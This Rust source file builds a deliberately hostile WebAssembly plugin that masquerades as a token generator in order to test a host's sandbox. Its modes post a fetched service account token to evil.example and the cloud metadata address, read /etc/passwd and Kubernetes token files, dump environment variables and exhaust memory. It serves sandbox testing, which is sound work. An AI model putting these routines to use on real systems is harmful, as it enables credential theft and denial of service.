//! A deliberately hostile generator component, for proving the host's sandbox.
//!
//! It exports the same `generator` interface as the real generator (world
//! `cloudsmith-access-token`), so a host loads it exactly as it loads the real
//! one. What it does is chosen by the manifest it is given, a JSON object
//! with a `hostile` field:
//!
//! | `hostile`      | what the plugin does                                                       |
//! |----------------|----------------------------------------------------------------------------|
//! | `loop`         | spins forever (pure compute: only epoch interruption can stop it)          |
//! | `sleep`        | sleeps an hour inside a host call (`wasi:clocks` poll)                     |
//! | `alloc`        | allocates 1 MiB blocks without bound, touching every page                  |
//! | `evil-host`    | fetches a service account token, then tries to send it to hosts outside the allowlist; returns what came back per target (`targets`: list of URLs) |
//! | `files`        | tries to read `/etc/passwd`, list `/` and `.`, write a file; returns what it saw |
//! | `env`          | returns every environment variable, argument and the working directory it sees |
//! | `huge-output`  | returns an `auth` of `bytes` bytes (default 256 MiB, or as much as memory allows) |
//! | `many-outputs` | returns `count` outputs (default 1,000,000)                               |
//! | `huge-error`   | fails with an `invalid-spec` message of `bytes` bytes (default 16 MiB), multi-line |
//! | `trap`         | executes `unreachable`                                                     |
//! | `panic`        | panics (the release profile aborts: a trap)                                |
//! | `stdout-flood` | writes to stdout and stderr without bound (or `bytes` each)               |
//! | `echo-token`   | fetches a service account token and prints it to stdout, stderr and its error |
//! | `leftovers`    | looks for what an earlier call left behind (a static counter, a marker on its heap and stack), then leaves its own; reports what it found |
//! | `resources`    | creates `count` `wasi:http` fields (default 100,000) of one `value-bytes` header each (default 1 KiB) and keeps them all: a flood of the host's resource table |
//! | `hoard`        | composed with itself (`wac plug --plug hostile.wasm hostile.wasm`): has the other instance keep `bytes` (default 20 MiB) in its own linear memory, through its `token-source` export, then keeps as much in its own: two memories, each within a per-memory limit |
//! | `no-audiences` | asks the token source for a token with no audiences (an API-server token); reports what came back |
//!
//! The component also exports `token-source`: asked for account `hoard:N`, it keeps N
//! bytes (touched) in its memory and answers; any other account is passed on to its own
//! `token-source` import, so composed with itself it behaves as it does alone.
//!
//! Natively, [`wat`] writes core modules for what Rust cannot express (many memories,
//! table growth); `wasm-tools component embed` and `component new` make each a
//! generator component.
//! Modes that report what they saw (`evil-host`, `files`, `env`,
//! `stdout-flood`, `leftovers`) return it beside ESO's two keys (`auth` = `hostile-report`,
//! `expiry` = `0`), so a host that insists on those keys still hands the
//! report back to the test.

#[cfg(target_arch = "wasm32")]
mod component {
    use std::io::Write;
    use std::time::Duration;

    use serde_json::Value;

    mod bindings {
        wit_bindgen::generate!({
            // The generator's world, plus token-source as an export: composed with
            // itself, one instance serves the other (the `hoard` mode).
            inline: "
                package hostile:plug;
                world hostile {
                    include secretgen:generator/cloudsmith-access-token@0.1.0;
                    export secretgen:generator/token-source@0.1.0;
                }
            ",
            world: "hostile:plug/hostile",
            path: "../../wit",
            generate_all,
        });
    }

    use bindings::exports::secretgen::generator::generator as wit;
    use bindings::exports::secretgen::generator::token_source as exported_source;
    use bindings::secretgen::generator::token_source;
    use bindings::wasi::http::outgoing_handler;
    use bindings::wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};

    type Outputs = Vec<(String, Vec<u8>)>;

    const MIB: u64 = 1024 * 1024;
    const DEFAULT_TARGETS: &[&str] = &[
        "https://evil.example:443/steal",
        "http://127.0.0.1:9/steal",
        "https://169.254.169.254/latest/meta-data/",
    ];

    struct Hostile;

    impl wit::Guest for Hostile {
        fn info() -> wit::GeneratorInfo {
            // Looks like the real thing, so a host that checks `kind` loads it.
            wit::GeneratorInfo {
                kind: "CloudsmithAccessToken".into(),
                api_version: "generators.external-secrets.io/v1alpha1".into(),
                output_keys: vec!["auth".into(), "expiry".into()],
                version: "0.0.0-hostile".into(),
            }
        }

        fn generate(manifest: String, namespace: String) -> Result<Outputs, wit::GenerateError> {
            let m: Value = serde_json::from_str(&manifest).unwrap_or(Value::Null);
            let mode = m.get("hostile").and_then(Value::as_str).unwrap_or("");
            let num = |key: &str, default: u64| m.get(key).and_then(Value::as_u64).unwrap_or(default);
            match mode {
                "loop" => spin(),
                "sleep" => {
                    std::thread::sleep(Duration::from_secs(3600));
                    Ok(vec![("slept".into(), b"an hour".to_vec())])
                }
                "alloc" => alloc_without_bound(),
                "evil-host" => {
                    let targets: Vec<String> = match m.get("targets").and_then(Value::as_array) {
                        Some(list) => list.iter().filter_map(|v| v.as_str().map(String::from)).collect(),
                        None => DEFAULT_TARGETS.iter().map(|s| String::from(*s)).collect(),
                    };
                    Ok(report(evil_host(&targets, &namespace)))
                }
                "files" => Ok(report(files())),
                "env" => Ok(report(env())),
                "huge-output" => Ok(vec![
                    ("auth".into(), big_buffer(num("bytes", 256 * MIB))),
                    ("expiry".into(), b"1700000000".to_vec()),
                ]),
                "many-outputs" => Ok((0..num("count", 1_000_000))
                    .map(|i| (format!("k{i}"), vec![b'x'; 16]))
                    .collect()),
                "huge-error" => {
                    let bytes = big_buffer(num("bytes", 16 * MIB));
                    let mut text = String::from_utf8(bytes).unwrap_or_default();
                    text.insert_str(0, "hostile\nmulti-line\r\nerror ");
                    Err(wit::GenerateError::InvalidSpec(text))
                }
                "trap" => {
                    #[allow(unreachable_code)]
                    {
                        core::arch::wasm32::unreachable();
                    }
                }
                "panic" => panic!("hostile plugin panics on purpose"),
                "stdout-flood" => Ok(report(flood(m.get("bytes").and_then(Value::as_u64)))),
                "echo-token" => echo_token(&namespace),
                "leftovers" => Ok(report(leftovers())),
                "resources" => Ok(report(resources(num("count", 100_000), num("value-bytes", 1024)))),
                "hoard" => Ok(report(hoard(num("bytes", 20 * MIB), &namespace))),
                "no-audiences" => {
                    let account = token_source::ServiceAccountRef {
                        name: "default".into(),
                        namespace: None,
                        audiences: Vec::new(),
                    };
                    let outcome = match token_source::service_account_token(&account, &namespace) {
                        Ok(t) => format!("got a token ({} bytes)", t.len()),
                        Err(e) => format!("refused: {e}"),
                    };
                    Ok(report(vec![("token-source".into(), outcome.into_bytes())]))
                }
                other => Err(wit::GenerateError::InvalidSpec(format!(
                    "hostile plugin: unknown mode {other:?}"
                ))),
            }
        }
    }

    impl exported_source::Guest for Hostile {
        fn service_account_token(
            account: exported_source::ServiceAccountRef,
            namespace: String,
        ) -> Result<String, String> {
            if let Some(bytes) = account.name.strip_prefix("hoard:") {
                let bytes: usize = bytes.parse().map_err(|_| "hoard: not a number".to_string())?;
                KEPT.lock()
                    .unwrap_or_else(|p| p.into_inner())
                    .push(touched(bytes));
                return Ok(format!("kept {bytes} bytes"));
            }
            let account = token_source::ServiceAccountRef {
                name: account.name,
                namespace: account.namespace,
                audiences: account.audiences,
            };
            token_source::service_account_token(&account, &namespace)
        }
    }

    bindings::export!(Hostile with_types_in bindings);

    /// What this instance keeps for the rest of the call.
    static KEPT: std::sync::Mutex<Vec<Vec<u8>>> = std::sync::Mutex::new(Vec::new());

    /// `bytes` bytes, every page written, so they are resident in the host.
    fn touched(bytes: usize) -> Vec<u8> {
        vec![0xA5; bytes]
    }

    /// Keeps `count` fields resources (each with one header of `value` bytes) alive.
    fn resources(count: u64, value: u64) -> Outputs {
        let value = vec![b'v'; usize::try_from(value).unwrap_or(usize::MAX)];
        let mut kept = Vec::new();
        for _ in 0..count {
            let fields = Fields::new();
            let _ = fields.append("x-hoard", &value);
            kept.push(fields);
        }
        vec![("kept".into(), kept.len().to_string().into_bytes())]
    }

    /// `bytes` in the other instance's memory (a composition with itself), then as many
    /// in this one's.
    fn hoard(bytes: u64, namespace: &str) -> Outputs {
        let account = token_source::ServiceAccountRef {
            name: format!("hoard:{bytes}"),
            namespace: None,
            audiences: vec!["hoard".into()],
        };
        let other = match token_source::service_account_token(&account, namespace) {
            Ok(said) => said,
            Err(e) => format!("error: {e}"),
        };
        KEPT.lock()
            .unwrap_or_else(|p| p.into_inner())
            .push(touched(usize::try_from(bytes).unwrap_or(usize::MAX)));
        vec![
            ("other-instance".into(), other.into_bytes()),
            ("this-instance".into(), format!("kept {bytes} bytes").into_bytes()),
        ]
    }

    /// What the plugin saw, wrapped in ESO's two keys so a host that insists
    /// on `auth` and `expiry` still hands the rest back to the test.
    fn report(seen: Outputs) -> Outputs {
        let mut out = vec![
            ("auth".to_string(), b"hostile-report".to_vec()),
            ("expiry".to_string(), b"0".to_vec()),
        ];
        out.extend(seen);
        out
    }

    /// Calls made by this instance so far (in the data segment).
    static CALLS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);

    /// A marker built at run time, so that the module's own data never holds it.
    fn marker() -> Vec<u8> {
        b"revo-tfel-llac-reilrae".iter().rev().copied().collect()
    }

    /// What an earlier call left in this instance's memory, then leaves the same
    /// for a later call: the counter, the marker in a leaked heap block and on the
    /// stack. A host that reuses memory between calls without resetting it would
    /// show a counter above zero or the marker found.
    fn leftovers() -> Outputs {
        let before = CALLS.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        let marker = marker();
        let found = find_in_memory(&marker);
        Box::leak(marker.clone().into_boxed_slice());
        let on_stack = [0u8; 64];
        let mut on_stack = core::hint::black_box(on_stack);
        on_stack[..marker.len()].copy_from_slice(&marker);
        core::hint::black_box(&on_stack);
        vec![
            ("calls-before".into(), before.to_string().into_bytes()),
            ("marker-found".into(), found.to_string().into_bytes()),
        ]
    }

    /// Whether `needle` occurs anywhere in linear memory, other than in the
    /// copy this call made to search with.
    fn find_in_memory(needle: &[u8]) -> bool {
        let size = core::arch::wasm32::memory_size(0) * 65536;
        let own = needle.as_ptr() as usize;
        (1..size - needle.len()).any(|at| {
            // SAFETY: every address below memory_size is readable in wasm32 (0 is
            // skipped: it is the null pointer, and the bottom of the stack).
            at != own
                && (0..needle.len())
                    .all(|i| unsafe { core::ptr::read_volatile((at + i) as *const u8) } == needle[i])
        })
    }

    fn spin() -> ! {
        let mut n: u64 = 0;
        loop {
            n = core::hint::black_box(n.wrapping_add(1));
        }
    }

    fn alloc_without_bound() -> ! {
        let mut hoard: Vec<Vec<u8>> = Vec::new();
        loop {
            // Touch every byte so no lazy page trick hides the growth.
            hoard.push(vec![0xA5; MIB as usize]);
            core::hint::black_box(&hoard);
        }
    }

    /// A buffer of `want` bytes, or the largest power-of-two fraction of it
    /// that memory allows.
    fn big_buffer(want: u64) -> Vec<u8> {
        let mut size = usize::try_from(want).unwrap_or(usize::MAX);
        loop {
            let mut v: Vec<u8> = Vec::new();
            if v.try_reserve_exact(size).is_ok() {
                v.resize(size, b'A');
                return v;
            }
            size /= 2;
        }
    }

    fn a_token(namespace: &str) -> Result<String, String> {
        let account = token_source::ServiceAccountRef {
            name: "default".into(),
            namespace: None,
            audiences: vec!["https://api.cloudsmith.io".into()],
        };
        token_source::service_account_token(&account, namespace)
    }

    fn evil_host(targets: &[String], namespace: &str) -> Outputs {
        let (token, token_note) = match a_token(namespace) {
            Ok(t) => {
                let note = format!("got a token ({} bytes)", t.len());
                (t, note)
            }
            Err(e) => (String::new(), format!("token source refused: {e}")),
        };
        let mut out = vec![("token-source".to_string(), token_note.into_bytes())];
        for target in targets {
            let outcome = match send(target, format!("{{\"stolen\":\"{token}\"}}").as_bytes()) {
                Ok(status) => format!("answered {status}"),
                Err(e) => format!("error: {e}"),
            };
            out.push((target.clone(), outcome.into_bytes()));
        }
        out
    }

    /// POSTs `body` to `url`; the answer's status, or what went wrong.
    fn send(url: &str, body: &[u8]) -> Result<u16, String> {
        let (scheme, rest) = url.split_once("://").ok_or("not a URL")?;
        let (authority, path) = match rest.find('/') {
            Some(i) => (&rest[..i], &rest[i..]),
            None => (rest, "/"),
        };
        let request = OutgoingRequest::new(Fields::new());
        let scheme = if scheme == "http" {
            Scheme::Http
        } else {
            Scheme::Https
        };
        let set = [
            request.set_method(&Method::Post),
            request.set_scheme(Some(&scheme)),
            request.set_authority(Some(authority)),
            request.set_path_with_query(Some(path)),
        ];
        if set.iter().any(Result::is_err) {
            return Err("request refused while being built".into());
        }
        let outgoing = request.body().map_err(|()| "no body")?;
        {
            let stream = outgoing.write().map_err(|()| "no body stream")?;
            for chunk in body.chunks(4096) {
                stream
                    .blocking_write_and_flush(chunk)
                    .map_err(|e| format!("write: {e:?}"))?;
            }
        }
        let future = outgoing_handler::handle(request, None).map_err(|e| format!("{e:?}"))?;
        OutgoingBody::finish(outgoing, None).map_err(|e| format!("finish: {e:?}"))?;
        future.subscribe().block();
        match future.get() {
            Some(Ok(Ok(response))) => Ok(response.status()),
            Some(Ok(Err(code))) => Err(format!("{code:?}")),
            Some(Err(())) | None => Err("no response".into()),
        }
    }

    fn files() -> Outputs {
        fn show<T: core::fmt::Debug>(r: std::io::Result<T>) -> Vec<u8> {
            match r {
                Ok(v) => format!("ok: {v:?}").into_bytes(),
                Err(e) => format!("error: {e}").into_bytes(),
            }
        }
        let list = |p: &str| {
            std::fs::read_dir(p).map(|d| d.filter_map(Result::ok).map(|e| e.path()).collect::<Vec<_>>())
        };
        vec![
            (
                "read /etc/passwd".into(),
                show(std::fs::read_to_string("/etc/passwd")),
            ),
            ("list /".into(), show(list("/"))),
            ("list .".into(), show(list("."))),
            (
                "read /var/run/secrets/kubernetes.io/serviceaccount/token".into(),
                show(std::fs::read_to_string(
                    "/var/run/secrets/kubernetes.io/serviceaccount/token",
                )),
            ),
            (
                "write /tmp/hostile-was-here".into(),
                show(std::fs::write("/tmp/hostile-was-here", b"x")),
            ),
            ("cwd".into(), show(std::env::current_dir())),
        ]
    }

    fn env() -> Outputs {
        let vars: Vec<String> = std::env::vars_os()
            .map(|(k, v)| format!("{}={}", k.to_string_lossy(), v.to_string_lossy()))
            .collect();
        let args: Vec<String> = std::env::args_os()
            .map(|a| a.to_string_lossy().into_owned())
            .collect();
        vec![
            ("env-count".into(), vars.len().to_string().into_bytes()),
            ("env".into(), vars.join("\n").into_bytes()),
            ("args".into(), args.join("\n").into_bytes()),
            (
                "cwd".into(),
                std::env::current_dir()
                    .map(|p| p.display().to_string())
                    .unwrap_or_else(|e| format!("error: {e}"))
                    .into_bytes(),
            ),
        ]
    }

    /// Writes to stdout and stderr until a write fails or `limit` bytes went
    /// to each; reports how far it got.
    fn flood(limit: Option<u64>) -> Outputs {
        let chunk = vec![b'#'; 64 * 1024];
        let (mut out, mut err) = (std::io::stdout(), std::io::stderr());
        let mut written: u64 = 0;
        let why = loop {
            if limit.is_some_and(|l| written >= l) {
                break "limit reached".to_string();
            }
            if let Err(e) = out.write_all(&chunk).and_then(|()| out.flush()) {
                break format!("stdout: {e}");
            }
            if let Err(e) = err.write_all(&chunk).and_then(|()| err.flush()) {
                break format!("stderr: {e}");
            }
            written += chunk.len() as u64;
        };
        vec![
            ("written".into(), written.to_string().into_bytes()),
            ("stopped".into(), why.into_bytes()),
        ]
    }

    fn echo_token(namespace: &str) -> Result<Outputs, wit::GenerateError> {
        let token = a_token(namespace).map_err(wit::GenerateError::TokenSource)?;
        println!("hostile stdout: the token is {token}");
        eprintln!("hostile stderr: the token is {token}");
        Err(wit::GenerateError::InvalidSpec(format!(
            "hostile error: the token is {token}"
        )))
    }
}

/// Core modules for what Rust cannot express, as WebAssembly text: each exports the
/// generator interface's two functions under their canonical ABI names, so
/// `wasm-tools component embed --world cloudsmith-access-token wit/` and
/// `wasm-tools component new` make it a generator component.
///
/// `generate` does its misbehaviour, then returns `ok` with no outputs (which the host
/// refuses as unusable outputs, if it gets that far); `info` traps.
#[cfg(not(target_arch = "wasm32"))]
pub mod wat {
    use std::fmt::Write as _;

    const PAGE: u32 = 64 * 1024;
    const GENERATE: &str = "secretgen:generator/generator@0.1.0#generate";
    const INFO: &str = "secretgen:generator/generator@0.1.0#info";

    /// `memories` linear memories; `generate` grows each in turn by `mib_each` MiB and
    /// writes a byte on every 4 KiB page (so the pages are resident), memory after
    /// memory: no single memory comes near a per-memory limit of more than `mib_each`.
    pub fn memories(memories: u32, mib_each: u32) -> String {
        let pages = mib_each * 1024 * 1024 / PAGE;
        let mut m = String::from("(module\n");
        for k in 0..memories {
            let export = if k == 0 { " (export \"memory\")" } else { "" };
            let _ = writeln!(m, "  (memory $m{k}{export} 1)");
        }
        m.push_str(&common());
        let _ = writeln!(
            m,
            "  (func (export \"{GENERATE}\") (param i32 i32 i32 i32) (result i32) (local $p i32)"
        );
        for k in 0..memories {
            let _ = write!(
                m,
                "    (if (i32.eq (memory.grow $m{k} (i32.const {pages})) (i32.const -1)) (then unreachable))\n\
                 \x20   (local.set $p (i32.const {PAGE}))\n\
                 \x20   (loop $touch{k}\n\
                 \x20     (i32.store8 $m{k} (local.get $p) (i32.const 165))\n\
                 \x20     (local.set $p (i32.add (local.get $p) (i32.const 4096)))\n\
                 \x20     (br_if $touch{k} (i32.lt_u (local.get $p) (i32.const {end}))))\n",
                end = (pages + 1) * PAGE
            );
        }
        m.push_str("    (i32.const 16))\n)\n");
        m
    }

    /// `tables` funcref tables of one element; `generate` grows each in turn, `step`
    /// elements at a time, until it will grow no further, table after table.
    pub fn tables(tables: u32, step: u32) -> String {
        let mut m = String::from("(module\n  (memory (export \"memory\") 1)\n");
        for k in 0..tables {
            let _ = writeln!(m, "  (table $t{k} 1 funcref)");
        }
        m.push_str(&common());
        let _ = writeln!(
            m,
            "  (func (export \"{GENERATE}\") (param i32 i32 i32 i32) (result i32)"
        );
        for k in 0..tables {
            let _ = writeln!(
                m,
                "    (block $full{k} (loop $grow{k}\n\
                 \x20     (br_if $full{k} (i32.eq (table.grow $t{k} (ref.null func) (i32.const {step})) (i32.const -1)))\n\
                 \x20     (br $grow{k})))"
            );
        }
        m.push_str("    (i32.const 16))\n)\n");
        m
    }

    /// The allocator and `info` every module has; the return area of `generate` is
    /// at 16 in the first memory, all zeros: `ok` with an empty list.
    fn common() -> String {
        format!(
            "  (global $next (mut i32) (i32.const 1024))\n\
             \x20 (func (export \"cabi_realloc\") (param i32 i32 i32 i32) (result i32) (local $at i32)\n\
             \x20   (local.set $at (i32.and (i32.add (global.get $next) (i32.const 7)) (i32.const -8)))\n\
             \x20   (global.set $next (i32.add (local.get $at) (local.get 3)))\n\
             \x20   (local.get $at))\n\
             \x20 (func (export \"{INFO}\") (result i32) unreachable)\n"
        )
    }
}
